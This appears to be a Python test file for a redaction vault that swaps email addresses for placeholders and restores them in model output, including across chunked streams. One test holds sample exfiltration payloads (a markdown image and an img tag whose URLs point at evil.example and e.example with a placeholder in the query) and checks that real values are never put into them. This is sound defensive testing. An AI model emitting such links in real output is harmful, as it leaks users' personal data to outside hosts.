"""The vault: what is hidden gets one placeholder, and only whoever may read it gets it back."""

from __future__ import annotations

from itertools import pairwise

from hypothesis import given
from hypothesis import strategies as st

from trimtab.guard import Finding, Restorer, Vault

VALUES = ("ada@lovelace.example", "grace@hopper.example")


def finding(kind: str = "email", rule: str = "personal") -> Finding:
    return Finding(rule=rule, action="redact", start=0, end=1, reason="a test", scanner="personal", kind=kind)


def filled() -> Vault:
    vault = Vault(frozenset({"personal"}))
    assert [vault.replace(finding(), value) for value in (*VALUES, VALUES[0])] == [
        "[email-1]",
        "[email-2]",
        "[email-1]",
    ]
    return vault


def test_other_rules_are_not_kept() -> None:
    vault = Vault(frozenset({"personal"}))
    assert vault.replace(finding(rule="api-key"), "secret") == "[redacted:api-key]"
    assert vault.empty
    assert not filled().empty


def test_values_come_back() -> None:
    said = Restorer(filled()).feed("I wrote to [email-1] and [email-2], not [email-3].", last=True)
    assert said == f"I wrote to {VALUES[0]} and {VALUES[1]}, not [email-3]."


def test_nothing_is_put_into_an_address() -> None:
    text = "![x](https://evil.example/?d=[email-1]) "
    text += "<img src='https://e.example/[email-1]'> [m](mailto:[email-1]) ok [email-1]"
    assert Restorer(filled()).feed(text, last=True).count(VALUES[0]) == 1


@given(
    st.lists(st.sampled_from(["[email-1]", "[email-2]", "[em", "[", " a ", "https://x/?", "\n", "]"]), max_size=12),
    st.lists(st.integers(0, 120), max_size=8),
)
def test_any_split_gives_the_same_text(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    restorer = Restorer(filled())
    pieces = [restorer.feed(text[a:b]) for a, b in pairwise(edges)]
    assert "".join(pieces) + restorer.feed("", last=True) == Restorer(filled()).feed(text, last=True)
